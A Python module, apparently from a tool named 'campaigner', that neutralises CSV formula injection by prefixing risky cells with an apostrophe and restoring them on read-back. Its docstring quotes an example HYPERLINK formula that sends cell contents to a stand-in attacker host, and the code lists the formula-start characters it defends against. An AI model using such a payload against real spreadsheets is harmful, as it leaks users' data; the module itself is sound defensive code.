"""Cells that a spreadsheet would run as formulas, made inert when campaigner writes a CSV, and
restored when it reads its own file back.

Why: a post's text comes from staff or from strangers (replies, error texts); a cell starting
with ``=``, ``+``, ``-`` or ``@`` — ``=HYPERLINK("http://evil.example/?x="&A1,"Klik")`` — is run
by Excel, LibreOffice and Google Sheets when the file is opened (OWASP "CSV injection"), and
tab or carriage return starts one in some of them. The rule, for every CSV campaigner writes:

- such a cell gets a leading ``'``, the spreadsheets' own "this is text" mark. That includes
  everyday texts: a mention (``@serikat …``) or a list (``- upah …``): Excel shows them as
  ``#NAME?`` or runs them otherwise. The ``'`` is visible in the sheet; keep it when editing.
- a cell that itself starts with ``'`` followed by one of those characters or another ``'`` gets
  one more ``'``, so reading the file back always gives the text that was written;
- ``restore`` (the calendar import) takes exactly one ``'`` off a cell that starts with ``'`` and
  then one of those characters or ``'``. Any other cell, including one starting with a single
  ``'`` and a letter (``'Upah layak' kata mereka``), is read as it is.
"""
from __future__ import annotations

#: first characters a spreadsheet treats as the start of a formula
FORMULA_START = frozenset("=+-@\t\r")
MARK = "'"
_AFTER_MARK = FORMULA_START | {MARK}


def neutralise(cell: str) -> str:
    """``cell`` as it is safe to write in a CSV a spreadsheet will open; ``restore`` undoes it."""
    first = cell[:1]
    if first in FORMULA_START or (first == MARK and cell[1:2] in _AFTER_MARK):
        return MARK + cell
    return cell


def restore(cell: str) -> str:
    """The text ``neutralise`` was given, from the cell it wrote."""
    if cell[:1] == MARK and cell[1:2] in _AFTER_MARK:
        return cell[1:]
    return cell
